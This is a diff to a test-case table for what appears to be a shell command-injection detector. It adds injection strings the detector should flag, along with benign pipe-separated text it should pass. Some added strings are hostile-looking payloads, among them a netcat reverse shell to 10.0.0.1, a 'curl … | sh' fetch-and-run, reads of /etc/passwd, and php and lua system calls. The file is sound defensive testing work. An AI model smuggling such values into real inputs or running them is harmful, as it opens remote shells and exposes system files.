@@ -104,7 +104,12 @@ CASES: tuple[Case, ...] = (
          # shape after a spaced separator (mixed case too); recon tools ending the value.
          ";set", "|set", ";Set", "|SeT", ";set in stone", "&& set", "$(set)", "; cat|nc x 1", "| sleep 5",
          "| sLeEp 5", ";ls -la", "; whoami", "| hEaD -n 5 /etc/passwd", "; ping -c 3 127.0.0.1",
-         "x | tail -n 1 /var/log/auth.log", "; echo $PATH", "| more /etc/hosts", "; kill -9 1"),
+         "x | tail -n 1 /var/log/auth.log", "; echo $PATH", "| more /etc/hosts", "; kill -9 1",
+         # Short command names alone after a separator, in any case but all capitals (a shell
+         # finds no "NC"); in capitals with an argument shape; a pipe into sh; 2>&1 ending it.
+         "127.0.0.1 | id", "| iD", "|Nc", "x;pHp", "|nl|", "| NC -e /bin/sh 10.0.0.1 4444",
+         ";LS -la", "curl x.example/a | sh", "x |sh #", "; id 2>&1", "x\niD\n", "x\npwd", "x | Sleep 10", "; kill 1234",
+         "| php -r 'system(1);'", ";php;", "; lua -e 'os.execute(1)'"),
         ("bash guitar pedal", "Tom & Jerry", "cat food; dog food", "drop me a line", "salt & pepper",
          "python 3.10 release notes", "cd music; then play", "Thanks; Bob --sent from my phone",
          "Options; see --help for more", "I like apples; pears -- not so much", "| Use --force | yes |",
@@ -128,7 +133,16 @@ CASES: tuple[Case, ...] = (
          "Import | Export", "Drinks | Eval", "Team | Exec", "Sound | Echo", "Animals | Cat",
          "Hiking | Mount", "Gloves | Finger", "Old vs new | Diff", "News | Column", "Flag | Tr",
          "Units | Od", "Dinner | ll", "Wheel | Rev", "Park | Host", "Size | W", "Pros; More; Less",
-         "Tea | Time | Table", "Snakes | Python", "Top | Watch", "Music | CD", "Gadgets | Zip"),
+         "Tea | Time | Table", "Snakes | Python", "Top | Watch", "Music | CD", "Gadgets | Zip",
+         # Pipe-separated data with state, region and country codes in capitals.
+         "Raleigh | NC", "Kiel|SH|24103", "Jakarta | ID", "Amsterdam|NL|1012 AB", "Boise, ID | US",
+         "Skills: Java | PHP | SQL", "Sizes | PS | XL", "Docs | LS", "Please bring:\nID\nTickets",
+         # English command words as product model names in a pipe-separated title.
+         "Bishop | Time 509 | Steel | Size M", "Brand | Less 473", "Hernandez | Source 601 | Red",
+         # Shell words in prose: a redirection not ending a command, chmod's mode then prose.
+         "2>&1 meaning", "what does 2>&1 do in bash", "then chmod +x on it and run",
+         # Languages in a lowercase tag list.
+         "skills: java; php; mysql", "Tags: lua | python"),
     ),
     Case(
         "UNIXCommandSplicing",
